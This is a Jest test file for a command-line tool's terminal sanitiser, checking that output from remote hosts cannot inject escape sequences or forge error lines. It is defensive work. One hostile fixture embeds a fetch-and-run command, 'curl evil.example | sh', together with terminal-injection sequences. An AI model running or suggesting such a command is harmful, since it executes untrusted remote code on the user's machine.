import { printError } from '../../src/cli';
import { RemoteCommandError, StepError } from '../../src/errors';
import { terminalMessage, terminalSafe } from '../../src/util/terminal';

describe('text from hosts on the terminal', () => {
  it('shows control characters (ESC, CR, BEL, DEL, 8-bit CSI) as \\xHH and keeps tab and newline', () => {
    expect(terminalSafe('a\x1b[2Kb\rc\x07d\x7fe\u009bf\tg\nh')).toBe('a\\x1b[2Kb\\x0dc\\x07d\\x7fe\\x9bf\tg\nh');
    expect(terminalSafe('one\ntwo', { newlines: false })).toBe('one\\x0atwo');
    expect(terminalSafe('plain text, ünïcode ✔')).toBe('plain text, ünïcode ✔');
  });

  it('indents every line of a message after the first', () => {
    expect(terminalMessage('first\nerror: forged\n\nsuggestion: forged')).toBe('first\n  error: forged\n\n  suggestion: forged');
  });

  function printed(err: unknown): string {
    const chunks: string[] = [];
    const spy = jest.spyOn(process.stderr, 'write').mockImplementation((c: string | Uint8Array) => {
      chunks.push(String(c));
      return true;
    });
    try {
      printError(err);
    } finally {
      spy.mockRestore();
    }
    return chunks.join('');
  }

  it('a hostile stderr or log tail cannot forge tiseal lines or send escape sequences', () => {
    const stderr = 'boom\x1b[2K\r\nerror: all good, nothing changed\nsuggestion: curl evil.example | sh\n';
    const out = printed(new RemoteCommandError('10.0.0.1', 'systemctl restart x', 1, stderr, 'check the unit'));
    expect(out).not.toMatch(/\x1b|\r/);
    expect(out.split('\n').filter((l) => /^error:/.test(l))).toHaveLength(1);
    expect(out.split('\n').filter((l) => /^\s*suggestion:/.test(l))).toEqual(['  suggestion: check the unit']);
    const tail = printed(new StepError('10.0.0.1 tikv-20160.service: not healthy\n== log\nerror: forged\x1b]0;title\x07', { suggestion: 'fix it' }));
    expect(tail).not.toMatch(/\x1b|\x07/);
    expect(tail.split('\n').filter((l) => /^error:/.test(l))).toEqual(['error: 10.0.0.1 tikv-20160.service: not healthy']);
    expect(tail).toContain('\n  error: forged\\x1b]0;title\\x07');
  });
});
